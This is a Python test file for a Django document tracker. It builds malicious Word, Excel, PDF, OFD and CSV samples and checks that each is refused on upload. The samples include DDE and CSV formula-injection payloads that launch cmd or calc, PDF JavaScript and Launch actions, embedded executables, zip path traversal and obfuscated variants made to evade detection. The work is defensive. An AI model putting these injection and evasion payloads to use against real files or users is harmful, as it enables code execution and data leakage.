"""Files that do more than being read: each brings one thing along, and is refused by its name at all three doors."""

import io
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfbase.pdfdoc import PDFDictionary, PDFName
from reportlab.pdfgen.canvas import Canvas

from tests.support import papers
from tracker.desk.forms.imports import why_not_take
from tracker.inspection import active, why_not_keep
from tracker.reading.readers.pdfactions import looked_through

WORD = papers.word("关于某项工作的方案", "本方案自印发之日起施行。")
SHEET = papers.sheet(["单位", "进展"], ["市发改委", "已完成"])
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEETS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OLE = "\x01Ole10Native".encode("utf-16-le")


def changed(
    base: bytes, *, more: dict | None = None, instead: dict | None = None, again: tuple = ()
) -> bytes:
    """The container with further parts, and with (old, new) exchanged within parts."""
    out, before = io.BytesIO(), zipfile.ZipFile(io.BytesIO(base))
    with zipfile.ZipFile(out, "w") as archive:
        for name in before.namelist():
            old, new = (instead or {}).get(name, (b"", b""))
            archive.writestr(name, before.read(name).replace(old, new, 1) if old else before.read(name))
        for name, content in (*(more or {}).items(), *again):
            archive.writestr(name, content)
    return out.getvalue()


def word(markup: str) -> bytes:
    return changed(WORD, instead={"word/document.xml": (b"<w:sectPr", markup.encode() + b"<w:sectPr")})


def field(*runs: str) -> str:
    cut = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{cut}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def holding(base: bytes, part: str, kind: str, content: bytes | str, of: str = "word/document.xml") -> bytes:
    folder, _slash, name = of.rpartition("/")
    link = f'<Relationship Id="rId99" Type="{RELATED}/{kind}" Target="/{part}"/></Relationships>'
    rels = f"{folder}/_rels/{name}.rels"
    return changed(base, more={part: content}, instead={rels: (b"</Relationships>", link.encode())})


OFD = papers.container(OFD_xml="<ofd:OFD xmlns:ofd='http://www.ofdspec.org/2016'/>")


def acting(event: str, what: str = "URI") -> str:
    action = f"<ofd:Action Event='{event}'><ofd:{what} URI='http://e'/></ofd:Action>"
    return f"<ofd:Document xmlns:ofd='http://www.ofdspec.org/2016'><ofd:Actions>{action}</ofd:Actions></ofd:Document>"


def nested(before: str, inner: str, behind: str) -> str:
    """A field with another one among its words."""

    def said(text: str) -> str:
        return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' if text else ""

    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    within = mark("begin") + said(inner) + mark("separate") + mark("end")
    return f"<w:p>{mark('begin')}{said(before)}{within}{said(behind)}{mark('end')}</w:p>"


def formula(text: str) -> bytes:
    return changed(
        SHEET,
        instead={"xl/worksheets/sheet1.xml": (b"</row>", f'<c r="Z1"><f>{text}</f></c></row>'.encode())},
    )


def pdf(root: str = "", more: bytes = b"") -> bytes:
    head = f"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R{root}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    return head.encode() + more + b"trailer<</Root 1 0 R>>\n%%EOF"


def packed(objects: bytes, how: bytes = b"/Filter/FlateDecode", kind: bytes = b"/ObjStm") -> bytes:
    stream = zlib.compress(objects)
    return b"4 0 obj<</Type" + kind + how + b"/N 1/First 4>>stream\n" + stream + b"\nendstream endobj\n"


def encrypted() -> bytes:
    """To be read by everybody, to be changed by nobody: what many offices send, with a script."""
    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption("", ownerPassword="x", canModify=0))
    canvas.drawString(100, 700, "text")
    canvas._doc.Catalog.OpenAction = PDFDictionary({"S": PDFName("JavaScript"), "JS": PDFName("x")})
    canvas.save()
    return out.getvalue()


LIVELY = {
    "域.docx": word(field("DDEAUTO c:\\\\x /c calc")),
    "域分段.docx": word(field("DD", "EAUTO c:\\\\x")),
    "简单域.docx": word('<w:p><w:fldSimple w:instr="ddeauto x"/></w:p>'),
    "取图.docx": word(field('INCLUDEPICTURE "http://elsewhere.example/1.png" \\d')),
    "取文.docx": word(field('INCLUDETEXT "\\\\10.0.0.9\\share\\x.docx"')),
    "别处的页眉.docx": holding(WORD, "x/h.foo", "header", f'<h xmlns:w="urn:any">{field("DDE x")}</h>'),
    "网页.docx": holding(WORD, "word/a.html", "aFChunk", "<img src='http://elsewhere.example'>"),
    "控件.docx": holding(WORD, "word/activeX1.xml", "control", "<x/>"),
    "程序.docx": holding(WORD, "word/embeddings/a.exe", "package", b"MZ" * 50),
    "包.docx": holding(WORD, "word/embeddings/o.bin", "oleObject", papers.OLE + OLE),
    "图表里的宏.docx": holding(WORD, "word/embeddings/t.xlsx", "package", changed(SHEET, more={"xl/macrosheets/m.xml": "<x/>"})),
    "宏换名.docx": holding(WORD, "word/x.bin", "vbaProject", b"x"),
    "取数.xlsx": changed(SHEET, more={"xl/connections.xml": f'<connections {SHEETS}><connection id="1" refreshOnLoad="1"><webPr url="http://e"/></connection></connections>'}),
    "联结.xlsx": changed(SHEET, more={"xl/externalLinks/e1.xml": f'<externalLink {SHEETS}><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>'}),
    "公式.xlsx": formula('_xlfn.WEBSERVICE("http://e/"&amp;A1)'),
    "公式二.xlsx": formula("<![CDATA[cmd|'/c calc'!A0]]>"),
    "公式三.xlsx": formula("&#87;EBSERVICE(A1)"),
    "宏表.xlsx": changed(SHEET, more={"xl/macrosheets/sheet1.xml": "<x/>"}),
    "动作.pptx": papers.container(ppt__presentation_xml="<x/>", ppt__slides__slide1_xml="<a action='ppaction://program?x'/>"),
    "旧域.doc": papers.OLE + b"\x13DDEAUTO c:\\\\windows\\\\cmd.exe\x14\x15",
    "旧域二.doc": papers.OLE + "\x13 INCLUDEPICTURE \"http://e/1.png\" \\d \x14".encode("utf-16-le"),
    "旧包.doc": papers.OLE + OLE,
    "旧宏表.xls": papers.OLE + "Workbook\0".encode("utf-16-le") + b"\x85\x00\x0e\x00\0\0\0\0\x00\x01\x06\x00Macro1",
    "脚本.pdf": pdf("/OpenAction<</S/JavaScript/JS(x)>>"),
    "脚本换写法.pdf": pdf("/OpenAction<</S/Java#53cript/JS(x)>>"),
    "脚本在容器里.pdf": pdf(more=packed(b"7 0 <</S/JavaScript/JS(x)>>")),
    "容器换写法.pdf": pdf(more=packed(b"7 0 <</S/JavaScript/JS(x)>>", kind=b"/Obj#53tm")),
    "容器看不了.pdf": pdf(more=packed(b"x", how=b"/Filter[/ASCIIHexDecode/FlateDecode]")),
    "程序.pdf": pdf("/OpenAction<</S/Launch/F(calc.exe)>>"),
    "附件.pdf": pdf("/Names<</EmbeddedFiles<</Names[(x.exe)5 0 R]>>>>"),
    "表单.pdf": pdf("/AA<</WC<</S/SubmitForm/F(http://e)>>>>"),
    "网址.pdf": pdf("/OpenAction<</S/URI/URI(http://e)>>"),
    "加权限.pdf": encrypted(),
    "外流.pdf": pdf(more=b"5 0 obj<</Length 0/F(\\\\\\\\10.0.0.9\\\\x)/FFilter/FlateDecode>>stream\n\nendstream endobj\n"),
    "外图.pdf": pdf(more=b"5 0 obj<</Subtype/Image/F<</FS/URL/F(http://e/x.jpg)>>>>endobj\n"),
    "外页.pdf": pdf(more=b"5 0 obj<</Subtype/Form/Ref<</F(http://e/x.pdf)/Page 0>>>>endobj\n"),
    "别针.pdf": pdf(more=b"5 0 obj<</Subtype/FileAttachment/FS<</F(x.exe)/EF<</F 4 0 R>>>>>>endobj\n"),
    "关联文件.pdf": pdf("/AF[<</F(x.exe)/EF<</F 4 0 R>>>>]"),
    "关联文件换写法.pdf": pdf("/AF[<</F(x.exe)/E#46<</F 4 0 R>>>>]"),
    "关联文件在容器里.pdf": pdf(more=packed(b"7 0 <</F(x.exe)/EF 9 0 R>>")),
    "打开时另处.pdf": pdf("/OpenAction 4 0 R", b"4 0 obj<</S/URI/URI(http://e)>>endobj\n"),
    "打开时另处在容器里.pdf": pdf("/OpenAction 7 0 R", packed(b"7 0 <</S/URI/URI(http://e)>>")),
    "打开时两个版本.pdf": pdf("/OpenAction 4 0 R", b"4 0 obj[3 0 R/Fit]endobj\n4 0 obj<</S/URI/URI(http://e)>>endobj\n"),
    "打开时隔注.pdf": pdf("/OpenAction 4 0 R", b"4 0 obj[3 0 R/Fit]endobj\n4 0%x\nobj<</S/URI/URI(http://e)>>endobj\n"),
    "打开时接着.pdf": pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"),
    "打开时隐藏.pdf": pdf("/OpenAction<</S/Hide/T(x)>>"),
    "打开时换写法.pdf": pdf("/Open#41ction<</S/URI/URI(http://e)>>"),
    "打开页时.pdf": pdf(more=b"3 0 obj<</Type/Page/AA<</O<</S/URI/URI(http://e)>>>>>>endobj\n"),
    "打开页时另处.pdf": pdf(more=b"3 0 obj<</Type/Page/AA 9 0 R>>endobj\n"),
    "媒体脚本.pdf": pdf(more=b"5 0 obj<</S/Rendition/JS(x)>>endobj\n"),
    "立体.pdf": pdf(more=b"5 0 obj<</Subtype/3D/Rect[0 0 9 9]>>endobj\n"),
    "立体脚本.pdf": pdf(more=b"5 0 obj<</OnInstantiate 4 0 R>>endobj\n"),
    "声音.pdf": pdf(more=b"5 0 obj<</Subtype/Sound>>endobj\n"),
    "影片.pdf": pdf(more=b"5 0 obj<</Subtype/Movie>>endobj\n"),
    "别处的文章.pdf": pdf(more=b"5 0 obj<</S/Thread/F(\\\\\\\\e\\\\x.pdf)>>endobj\n"),
    "容器前有字.pdf": pdf(more=packed(b"7 0 <</S/JavaScript/JS(x)>>", how=b"/Filter/FlateDecode/X(obj)")),
    "容器前很长.pdf": pdf(more=packed(b"7 0 <</S/JavaScript/JS(x)>>", how=b"/Filter/FlateDecode" + b" " * 900)),
    "容器坏了一截.pdf": pdf(more=packed(b"7 0 <</S/JavaScript/JS(x)>>")[:-30] + b"\nendstream endobj\n4 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nx"),
    "附件.ofd": papers.container(OFD_xml="<x/>", Doc_0__Attachs__Attachments_xml="<o:Attachments xmlns:o='u'><o:Attachment Name='x'/></o:Attachments>"),
    "程序.ofd": changed(OFD, more={"Doc_0/Attachs/x.exe": b"MZ"}),
    "程序换名.ofd": changed(OFD, more={"Doc_0/Res/x.png": b"MZ\x90\0"}),
    "打开时.ofd": changed(OFD, more={"Doc_0/Document.xml": acting("DO")}),
    "打开页时.ofd": changed(OFD, more={"Doc_0/Document.XML": acting("P&#79;")}),
    "打开时宽字.ofd": changed(OFD, more={"Doc_0/a.dat": acting("DO").encode("utf-16")}),
    "影片.ofd": changed(OFD, more={"Doc_0/Document.xml": acting("CLICK", "Movie")}),
    "游离的程序.docx": changed(WORD, more={"evil.exe": b"MZ"}),
    "游离的程序换名.docx": changed(WORD, more={"word/media/a.png": b"MZ\x90\0"}),
    "走出去.docx": changed(WORD, more={"../../x": b"1"}),
    "走出去.xlsx": changed(SHEET, more={"..\\x": b"1"}),
    "域名由域拼成.docx": word(nested("", "QUOTE DDEAUTO", " c:\\\\x.exe")),
    "域名半截由域拼成.docx": word(nested(" D", "QUOTE DE", " c:\\\\x.exe")),
    "旧域空格.doc": papers.OLE + b"\x13" + b" " * 300 + b"ddeauto c:\\\\windows\\\\cmd.exe\x14\x15",
    "宽字.csv": "\ufeff=cmd|'/c calc'!A0\tb\n".encode("utf-16-le"),
    "宽字二.csv": "\ufeff单位\t=cmd|'/c calc'!A0\n".encode("utf-16-be"),
    "全角.csv": "＝cmd|'/c calc'!A0,b\n".encode(),
    "空格.csv": "\u00a0=cmd|'/c calc'!A0,b\n".encode(),
    "表.csv": b"=cmd|'/c calc'!A0,b\n",
    "表二.csv": b'a,"=WEBSERVICE(""http://e"")"\n',
}  # fmt: skip
QUIET = {
    "页码.docx": word(field("PAGE \\* MERGEFORMAT") + field("TOC \\o \"1-3\"") + field('HYPERLINK "http://www.gov.cn"')),
    "自己盘上的图.docx": word(field('INCLUDEPICTURE "C:\\\\Users\\\\zhou\\\\1.png"')),
    "带图表.docx": holding(WORD, "word/embeddings/t.xlsx", "package", SHEET),
    "公式.docx": holding(WORD, "word/embeddings/o.bin", "oleObject", papers.OLE + b"Equation"),
    "求和.xlsx": formula("SUM(A1:A9)&amp;TEXT(B1,&quot;0&quot;)"),
    "链接.pdf": pdf(more=b"5 0 obj<</Subtype/Link/A<</S/URI/URI(http://www.gov.cn)>>>>endobj\n"),
    "第一页.pdf": pdf("/OpenAction[3 0 R /XYZ null null 0]"),
    "第一页另处.pdf": pdf("/OpenAction 4 0 R", b"4 0 obj\n<< /S /GoTo /D [3 0 R /Fit ] >>\nendobj\n"),
    "第一页在容器里.pdf": pdf("/OpenAction 7 0 R", packed(b"7 0 <</S/GoTo/D[3 0 R/Fit]>>")),
    "文章.pdf": pdf(more=b"5 0 obj<</Type/Thread/F 6 0 R>>endobj\n"),
    "像附件的字节.pdf": pdf(more=b"5 0 obj<</Length 9>>stream\n\x81/EF\x00\x85/AA(\x92/3D/\nendstream endobj\n"),
    "函.ofd": changed(OFD, more={"Doc_0/Document.xml": acting("CLICK"), "Doc_0/Signs/SignedValue.dat": b"\x30\x82"}),
    "算式.docx": word(nested("=", "PAGE", "-1") + nested(" IF ", "PAGE", "=1 x y")),
    "宽字.csv": "\ufeff单位\t比例\n市发改委\t-5%\n".encode("utf-16-le"),
    "书签.pdf": pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", packed(b"7 0 <</S/GoTo>>")),
    "旧.doc": papers.OLE + b"\x13 PAGE \x14 1 \x15",
    "表.csv": "单位,比例\n市发改委,-5%\n市教体局,+3|4\n".encode(),
}  # fmt: skip


@pytest.mark.parametrize("name", LIVELY)
def test_what_runs_asks_or_holds_a_file_is_refused(name):
    file = SimpleUploadedFile(name, LIVELY[name])
    assert name in active.why_not(name, LIVELY[name])
    assert name in why_not_keep(file)
    if name.endswith((".docx", ".xlsx", ".pdf", ".csv")):  # what can be imported at all
        assert name in why_not_take(file)


@pytest.mark.parametrize("name", QUIET)
def test_what_documents_commonly_hold_is_taken(name):
    assert active.why_not(name, QUIET[name]) == ""


def test_a_relationship_under_two_names_is_no_way_round():
    away = f"<Relationships><Relationship Id='r' Type='{RELATED}/attachedTemplate' Target='http://e/x' TargetMode='External'/></Relationships>"
    twice = changed(
        WORD,
        more={"word/_rels/settings.xml.rels": away},
        again=(("WORD/_rels/settings.xml.rels", "<Relationships/>"),),
    )
    assert "损坏" in active.why_not("方案.docx", twice)
    alike = f"<Relationships><Relationship Id='r' Type='{RELATED}/hyperlink/attachedTemplate' Target='http://e/x' TargetMode='External'/></Relationships>"
    assert "http://e/x" in active.why_not(
        "方案.docx", changed(WORD, more={"word/_rels/settings.xml.rels": alike})
    )


def test_a_document_to_be_imported_fetches_nothing_either():
    away = f"<Relationships><Relationship Id='r' Type='{RELATED}/image' Target='http://e/1.png' TargetMode='External'/></Relationships>"
    file = SimpleUploadedFile("方案.docx", changed(WORD, more={"word/_rels/settings.xml.rels": away}))
    assert "一打开就会从" in why_not_take(file)


def test_a_picture_that_looks_like_an_action_by_chance_is_none():
    assert looked_through(b"%PDF-1.4 1 0 obj<</Length 9>>stream\n\x89/JS\x00/AA\xff\nendstream") == b""


def test_what_programs_print_is_taken(tmp_path):
    """With links and a first page to be shown, as LibreOffice and ReportLab write them."""
    out = io.BytesIO()
    canvas = Canvas(out)
    canvas.linkURL("http://www.gov.cn", (0, 0, 99, 99))
    canvas.bookmarkPage("x")
    canvas.addOutlineEntry("x", "x")
    canvas.showPage()
    canvas.save()
    assert why_not_keep(SimpleUploadedFile("函.pdf", out.getvalue())) == ""
